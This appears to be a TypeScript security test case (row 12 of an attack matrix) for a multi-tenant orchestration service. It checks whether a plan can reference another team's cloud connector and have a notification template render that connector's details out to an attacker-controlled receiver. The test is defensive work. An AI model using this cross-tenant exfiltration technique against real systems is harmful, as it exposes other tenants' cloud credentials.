import { pause } from '../../../wait.ts';
import type { Attack } from '../beside.ts';

/** Row 12: a plan whose targets are in an account of another team. */
export const CONNECTORS: Attack = {
  row: '12',
  title: 'connectorRef.namespace of another tenant, a template that prints .Connector',
  flags: ['--cross-namespace-connectors=none'],
  async prepare({ attacker, victim, receiver }) {
    await attacker.secret('own', { url: `${receiver.url}own`, enable_renderer: true });
    await attacker.template('print', '{{ range .Targets }}{{ .Connector }}{{ end }}');
    await attacker.notification('n', {
      onEvents: ['Start'],
      sinks: [{ name: 'own', templateRef: { name: 'print' } }],
    });
    const connectorRef = { kind: 'CloudProvider', name: 'aws', namespace: victim.team.namespace };
    await attacker.plan('p0', [], { spec: { targets: [{ name: 'db', type: 'rds', connectorRef }] } });
  },
  async attack({ attacker, receiver }, _size, signal) {
    await attacker.begins('p0');
    while (receiver.records.length === 0 && !signal.aborted) await pause(50);
    return `the attacker got: ${receiver.records.map(({ json }) => (json as { rendered?: string }).rendered).join('; ')}`;
  },
};
